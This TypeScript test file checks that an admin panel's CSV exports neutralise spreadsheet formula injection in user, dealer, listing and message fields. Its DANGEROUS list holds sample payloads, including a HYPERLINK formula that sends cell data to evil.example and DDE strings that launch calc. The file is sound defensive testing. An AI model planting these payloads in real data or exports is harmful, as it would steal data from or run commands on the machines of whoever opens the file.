import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { sql } from 'kysely';
import { createTestApp, type TestApp, type TestClient } from './support/test-app.js';

/**
 * Issue 19 (medium 5): text a guest or a dealer typed (a lead's name, a phone, a dealer's name) must
 * not become a formula when an admin opens an export in a spreadsheet. Every export goes through the
 * one CSV writer (http/admin-list.ts sendCsv); this checks each export route with a value starting
 * with each character a spreadsheet reads as the start of a formula.
 */
const DANGEROUS = ['=HYPERLINK("https://evil.example/?x="&A1;"clic")', '+39 333 1234567', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];

let t: TestApp;
let admin: TestClient;

beforeAll(async () => {
  t = await createTestApp();
  admin = await t.signIn('admin@automercato.example', 'Admin#Demo2026');
});
afterAll(async () => t?.close());

async function exportRows(url: string): Promise<Record<string, string>[]> {
  const res = await admin.request({ method: 'GET', url });
  expect(res.statusCode).toBe(200);
  return parse(res.body as string, { delimiter: ';', bom: true, columns: true, relax_quotes: true });
}

/** Writes DANGEROUS[i] into `column` of the i-th of six rows, exports, and returns the six exported cells. */
async function cellsOf(table: 'users' | 'dealers' | 'listings' | 'user_messages', column: string, ids: string[], url: string, idHeader: string, header: string) {
  expect(ids).toHaveLength(DANGEROUS.length);
  for (const [i, id] of ids.entries()) {
    await sql`update ${sql.table(table)} set ${sql.ref(column)} = ${DANGEROUS[i]} where id = ${id}`.execute(t.database.db);
  }
  const rows = await exportRows(url);
  return ids.map((id) => rows.find((row) => row[idHeader] === id)?.[header]);
}

/** Each dangerous value comes out as text: the same characters after a leading apostrophe. */
const neutralised = DANGEROUS.map((value) => `'${value}`);

describe('CSV exports neutralise spreadsheet formulas', () => {
  it('users: a name starting with =, +, -, @, tab or CR', async () => {
    const ids = (await t.database.db.selectFrom('users').select('id').where('deleted_at', 'is', null).orderBy('id').limit(6).execute()).map((r) => r.id);
    expect(await cellsOf('users', 'name', ids, '/api/admin/users/export.csv?per_page=100', 'ID', 'Nome')).toEqual(neutralised);
  });

  it('users: a phone "+39 …" gets the apostrophe too', async () => {
    const user = await t.database.db.selectFrom('users').select('id').where('email', '=', 'cliente@automercato.example').executeTakeFirstOrThrow();
    await t.database.db.updateTable('users').set({ phone: '+39 333 1234567' }).where('id', '=', user.id).execute();
    const rows = await exportRows('/api/admin/users/export.csv?q=cliente@automercato.example');
    expect(rows.find((row) => row.ID === user.id)?.Telefono).toBe('\'+39 333 1234567');
  });

  it('dealers: a dealer name', async () => {
    const ids = (await t.database.db.selectFrom('dealers').select('id').orderBy('id').limit(6).execute()).map((r) => r.id);
    expect(await cellsOf('dealers', 'name', ids, '/api/admin/dealers/export.csv', 'ID', 'Nome')).toEqual(neutralised);
  });

  it('dealer admins: a member\'s surname', async () => {
    const ids = (await t.database.db.selectFrom('users').select('id').distinct()
      .where('id', 'in', (eb) => eb.selectFrom('dealer_memberships').select('user_id')).orderBy('id').limit(6).execute()).map((r) => r.id);
    expect(await cellsOf('users', 'surname', ids, '/api/admin/user-dealerships/export.csv', 'ID utente', 'Cognome')).toEqual(neutralised);
  });

  it('listings: a listing\'s version', async () => {
    const ids = (await t.database.db.selectFrom('listings').select('id').orderBy('created_at', 'desc').orderBy('id').limit(6).execute()).map((r) => r.id);
    const cells = await cellsOf('listings', 'version', ids, '/api/admin/listings/export.csv?sort_by=created_at&sort_direction=desc&per_page=100', 'ID', 'Versione');
    expect(cells).toEqual(neutralised);
  });

  it('messages: a guest lead\'s name', async () => {
    const listing = await t.database.db.selectFrom('listings').select('id').where('state', '=', 'published').where('status', '=', 'enabled').orderBy('id').executeTakeFirstOrThrow();
    for (let i = 0; i < DANGEROUS.length; i++) {
      const res = await t.client().request({ method: 'POST', url: '/api/user-messages',
        payload: { listing: listing.id, name: 'Ospite', email: `ospite${i}@example.it`, message: 'Buongiorno, l\'auto è ancora disponibile? Grazie.' } });
      expect(res.statusCode).toBe(201);
    }
    const ids = (await t.database.db.selectFrom('user_messages').select('id').orderBy('id').limit(6).execute()).map((r) => r.id);
    expect(await cellsOf('user_messages', 'name', ids, '/api/admin/user-messages/export.csv?deleted=all', 'ID', 'Nome')).toEqual(neutralised);
  });

  it('keeps numbers, dates and plain text as they were', async () => {
    const rows = await exportRows('/api/admin/listings/export.csv?per_page=5');
    const row = rows.find((r) => !r.Versione?.startsWith('\''))!;
    expect(row['Prezzo (€)']).toMatch(/^\d+$/);
    expect(row['Creato il']).toMatch(/^\d{4}-\d\d-\d\dT/);
  });
});
